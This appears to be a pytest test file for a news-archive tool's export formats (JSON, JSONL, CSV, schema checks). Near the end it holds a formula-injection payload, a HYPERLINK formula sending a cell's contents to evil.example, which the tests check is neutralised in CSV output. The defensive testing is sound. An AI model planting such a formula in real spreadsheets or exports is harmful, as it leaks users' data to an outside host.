"""Export formats over a real store, validated against the schemas derived from the model."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from jiwen.core.models import MoneyFact, PercentFact
from jiwen.core.schema import FORMATS, schema_for
from jiwen.library.export import CSV_COLUMNS, atomic_output, select_articles, write_export
from jiwen.store import Archive
from tests.conftest import invoke_jiwen, schema_validator
from tests.store.test_store import make_article, make_page

REPO_ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def filled_archive(tmp_path):
    with Archive(tmp_path / "archive") as archive:
        for number in range(3):
            page = make_page(url=f"http://news.example.cn/2023/{number}.html", body=b"<p>%d</p>" % number)
            article = make_article()
            body = article.body + "发放补贴81836.46万元，占40%以上。"
            money_at, percent_at = body.index("81836.46万元"), body.index("40%以上")
            article.body = body
            article.facts += [
                MoneyFact(text="81836.46万元", start=money_at, end=money_at + 10, value=818364600),
                PercentFact(text="40%以上", start=percent_at, end=percent_at + 5, value=40, qualifier="at_least"),
            ]
            archive.save_article(
                archive.add_page(page)[0], page, article, relevant=number != 2, relevance=1, fingerprint=None, duplicate_of=None
            )
        yield archive


def export_bytes(archive, format_name, **kwargs) -> bytes:
    stream = io.BytesIO()
    write_export(select_articles(archive, **kwargs), format_name, stream)
    return stream.getvalue()


def test_json_export_is_one_array_that_validates(filled_archive):
    exported = json.loads(export_bytes(filled_archive, "json"))
    schema_validator("json").validate(exported)
    assert len(exported) == 2  # the off-topic article stays out by default
    for article in exported:
        assert {"id", "url", "title", "published", "author", "source", "body", "facts", "site", "fetched_at"} <= set(article)
        for fact in article["facts"]:
            assert article["body"][fact["start"] : fact["end"]] == fact["text"]


def test_include_all_brings_off_topic_articles_back(filled_archive):
    assert len(json.loads(export_bytes(filled_archive, "json", include_all=True))) == 3


def test_jsonl_export_has_one_valid_article_a_line(filled_archive):
    lines = export_bytes(filled_archive, "jsonl").decode("utf-8").splitlines()
    assert len(lines) == 2
    for line in lines:
        schema_validator("jsonl").validate(json.loads(line))


def test_facts_jsonl_rows_carry_their_article(filled_archive):
    rows = [json.loads(line) for line in export_bytes(filled_archive, "facts-jsonl").splitlines()]
    assert len(rows) == 2 * 4
    for row in rows:
        schema_validator("facts-jsonl").validate(row)
        assert row["article_id"] and row["url"].startswith("http://news.example.cn/")
    money = [row for row in rows if row["kind"] == "money"]
    assert money and all(row["value"] == 818364600 and row["currency"] == "CNY" for row in money)


def test_kind_filter_keeps_only_those_facts(filled_archive):
    from jiwen.core.models import SearchRequest

    rows = [
        json.loads(line)
        for line in export_bytes(filled_archive, "facts-jsonl", request=SearchRequest(kinds=["money", "percent"])).splitlines()
    ]
    assert {row["kind"] for row in rows} == {"money", "percent"}


def test_csv_export_has_the_documented_columns(filled_archive):
    reader = csv.DictReader(io.StringIO(export_bytes(filled_archive, "csv").decode("utf-8")))
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    rows = list(reader)
    assert len(rows) == 8
    assert {row["kind"] for row in rows} == {"count", "place", "money", "percent"}
    assert any(row["adcode"] == "522633" for row in rows)


def test_ids_are_the_same_in_two_exports(filled_archive):
    first = [article["id"] for article in json.loads(export_bytes(filled_archive, "json"))]
    second = [article["id"] for article in json.loads(export_bytes(filled_archive, "json"))]
    assert first == second and len(set(first)) == 2


def test_changed_since_in_the_future_exports_nothing(filled_archive):
    assert json.loads(export_bytes(filled_archive, "json", changed_since="2999-01-01T00:00:00")) == []


def test_a_failed_export_leaves_the_previous_file_untouched(tmp_path):
    target = tmp_path / "facts.jsonl"
    target.write_text("previous export\n", encoding="utf-8")
    with pytest.raises(RuntimeError):
        with atomic_output(target, io.BytesIO()) as stream:
            stream.write(b"half a line")
            raise RuntimeError("disk full")
    assert target.read_text(encoding="utf-8") == "previous export\n"
    assert [path.name for path in tmp_path.iterdir()] == ["facts.jsonl"]


def comparable_schema(node):
    """A schema with each description's whitespace collapsed: msgspec versions differ in how they
    strip docstring indentation (0.23 strips it, earlier ones kept it), which is not a change of
    the contract. Everything else (fields, types, required, enums, the words) is compared."""
    if isinstance(node, dict):
        return {
            key: " ".join(value.split()) if key == "description" and isinstance(value, str) else comparable_schema(value)
            for key, value in node.items()
        }
    if isinstance(node, list):
        return [comparable_schema(item) for item in node]
    return node


@pytest.mark.parametrize("format_name", FORMATS)
def test_committed_schemas_are_the_ones_the_model_gives(format_name):
    name = "extract.schema.json" if format_name == "extract" else f"export-{format_name}.schema.json"
    committed = json.loads((REPO_ROOT / "schemas" / name).read_text(encoding="utf-8"))
    assert comparable_schema(committed) == comparable_schema(schema_for(format_name)), (
        f"regenerate schemas/{name}: jiwen export --schema --format {format_name}"
    )


def test_schema_comparison_ignores_description_whitespace_only():
    indented = {"properties": {"a": {"type": "string", "description": "Line one.\n    Line two."}}}
    stripped = {"properties": {"a": {"type": "string", "description": "Line one.\nLine two."}}}
    assert comparable_schema(indented) == comparable_schema(stripped)
    assert comparable_schema(indented) != comparable_schema(
        {"properties": {"a": {"type": "integer", "description": "Line one. Line two."}}}
    )
    assert comparable_schema(indented) != comparable_schema({"properties": {"a": {"type": "string", "description": "Line one."}}})


def test_facts_jsonl_loads_into_pandas(filled_archive, tmp_path):
    pandas = pytest.importorskip("pandas", reason="pandas is not installed; the data-frame check needs it")
    path = tmp_path / "facts.jsonl"
    path.write_bytes(export_bytes(filled_archive, "facts-jsonl"))
    frame = pandas.read_json(path, lines=True)
    assert len(frame) == 8 and {"article_id", "kind", "value", "start", "end"} <= set(frame.columns)


FORMULA_PAGE = Path(__file__).resolve().parents[1] / "fixtures" / "hostile" / "formula-title.html"


@pytest.fixture(scope="module")
def formula_archive(tmp_path_factory) -> Path:
    """An archive holding one page whose title and sentences start with = - @ (formula injection)."""
    archive = tmp_path_factory.mktemp("formula") / "archive"
    result = invoke_jiwen("ingest", str(FORMULA_PAGE), "--archive", str(archive))
    assert result.returncode == 0, result.stderr
    return archive


@pytest.mark.parametrize("format_name", ["csv", "indicators-csv"])
def test_csv_cells_that_would_start_a_formula_are_made_text(formula_archive, tmp_path, format_name):
    output = tmp_path / "out.csv"
    result = invoke_jiwen("export", "--format", format_name, "--archive", str(formula_archive), "-o", str(output))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(output.read_text("utf-8"))))
    assert rows and all(row["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")' for row in rows)
    sentences = {row["sentence"][:2] for row in rows}
    assert {"'-", "'@"} <= sentences, sentences
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], "a cell still starts a formula"


@pytest.mark.parametrize("format_name", ["jsonl", "indicators-jsonl"])
def test_json_formats_keep_formula_like_text_as_archived(formula_archive, format_name):
    result = invoke_jiwen("export", "--format", format_name, "--archive", str(formula_archive))
    assert result.returncode == 0, result.stderr
    first = json.loads(result.stdout.splitlines()[0])
    assert first["title"].startswith("=HYPERLINK(")
